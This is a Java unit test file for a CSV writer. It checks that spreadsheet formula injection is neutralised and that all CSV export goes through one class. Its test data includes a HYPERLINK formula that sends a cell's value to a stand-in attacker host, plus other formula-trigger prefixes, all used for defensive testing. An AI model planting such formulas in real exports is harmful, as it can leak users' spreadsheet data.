package org.parley.base.csv;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

class CsvWriterTest {

    static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+2", "-2+3",
            "@SUM(A1:A9)", "\t=1", "\r=1");

    @Test
    void textThatASpreadsheetWouldRunIsWrittenAsText() throws IOException {
        StringWriter out = new StringWriter();
        try (CsvWriter csv = CsvWriter.to(out, "cell")) {
            for (String f : FORMULAS) {
                csv.row(f);
            }
            csv.row("plain, \"quoted\"");
            csv.row("it's fine");
            csv.row(-5);
            csv.row(Instant.parse("2026-01-01T00:00:00Z"));
            csv.row((Object) null);
        }
        List<String> cells = parse(out.toString());
        for (int i = 0; i < FORMULAS.size(); i++) {
            assertThat(cells.get(i)).isEqualTo("'" + FORMULAS.get(i));
        }
        assertThat(cells.subList(FORMULAS.size(), cells.size()))
                .containsExactly("plain, \"quoted\"", "it's fine", "-5", "2026-01-01T00:00:00Z", "");
    }

    @Test
    void restoreIsTheExactInverse() {
        for (String v : List.of("=1", "'=1", "''=1", "'", "''", "'hello", "hello", "", "-", "'-", "@", "\t", "a=b")) {
            assertThat(CsvWriter.restore(CsvWriter.neutralise(v))).as(v).isEqualTo(v);
            assertThat(CsvWriter.neutralise(v)).as(v).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
                    .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
        }
    }

    /** The guarantee: no CSV leaves Parley except through this writer (a new export cannot forget it). */
    @Test
    void noOtherClassPrintsCsv() throws IOException {
        Path main = Path.of("src/main/java");
        try (Stream<Path> files = Files.walk(main)) {
            List<Path> printers = files.filter(p -> p.toString().endsWith(".java"))
                    .filter(p -> !p.endsWith(Path.of("org/parley/base/csv/CsvWriter.java")))
                    .filter(p -> {
                        try {
                            String s = Files.readString(p);
                            return s.contains("CSVPrinter") || s.contains(".print(") && s.contains("CSVFormat");
                        } catch (IOException e) {
                            throw new java.io.UncheckedIOException(e);
                        }
                    }).toList();
            assertThat(printers).as("classes that write CSV without CsvWriter").isEmpty();
        }
    }

    static List<String> parse(String csv) throws IOException {
        return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv))
                .getRecords().stream().map(r -> r.get(0)).toList();
    }

    static List<CSVRecord> records(String csv) throws IOException {
        return CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv))
                .getRecords();
    }
}
